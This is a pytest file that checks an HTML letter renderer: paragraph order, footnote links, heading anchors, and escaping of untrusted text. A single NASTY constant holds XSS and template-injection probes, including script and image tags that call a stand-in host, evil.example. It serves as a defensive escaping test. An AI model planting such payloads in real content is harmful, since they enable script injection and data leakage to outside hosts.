"""The letter as HTML: every word escaped, every footnote's mark in its place."""

from __future__ import annotations

import re
from dataclasses import replace
from html import unescape

import pytest

from assistant.pipeline import Assistant
from ingest.letter import Footnote, Letter, Paragraph, Section
from ui.reader import list_headings, render_letter

NASTY = '<script>alert(1)</script> ![x](http://evil.example/?d) <img src="http://evil.example"> {{value}} ${value}'


@pytest.fixture
def letter(assistant: Assistant) -> Letter:
    return next(iter(assistant.letters.values()))


def _texts(html: str) -> list[str]:
    found = re.findall(r'<p class="kv-text">(.*?)</p>', html, re.DOTALL)
    return [unescape(re.sub(r"<[^>]+>", "", re.sub(r"<sup.*?</sup>", "", text))) for text in found]


def test_every_paragraph_stands_in_it_verbatim_and_in_order(letter: Letter) -> None:
    assert _texts(render_letter(letter)) == [paragraph.text for _, paragraph in letter.paragraphs()]


def test_every_footnote_has_a_mark_that_leads_to_it(letter: Letter) -> None:
    html = render_letter(letter)
    assert letter.footnotes
    for number in range(1, len(letter.footnotes) + 1):
        assert html.count(f'id="kv-note-{number}"') == 1
        assert html.count(f'href="#kv-note-{number}"') == 1


def test_headings_lead_to_their_sections(letter: Letter) -> None:
    html = render_letter(letter)
    headings = list_headings(letter)
    assert [heading["text"] for heading in headings] == [one.heading for one in letter.sections if one.heading]
    assert all(f'<section id="{heading["target"]}">' in html for heading in headings)


@pytest.mark.parametrize("kind", ["prose", "list-item", "header", "signature"])
def test_nothing_a_letter_says_becomes_markup(letter: Letter, kind: str) -> None:
    paragraph = Paragraph(f"{NASTY}/1", 1, kind, NASTY, None, ((0, len(NASTY)),))  # type: ignore[arg-type]
    note = Footnote(NASTY, NASTY, paragraph.id, 8)
    nasty = replace(letter, id=NASTY, sections=(Section(NASTY, 1, (paragraph,)),), footnotes=(note,))
    html = render_letter(nasty)
    assert _texts(html) == [NASTY]
    assert "<script" not in html
    assert "<img" not in html
    assert not re.search(r'="[^"]*<', html)
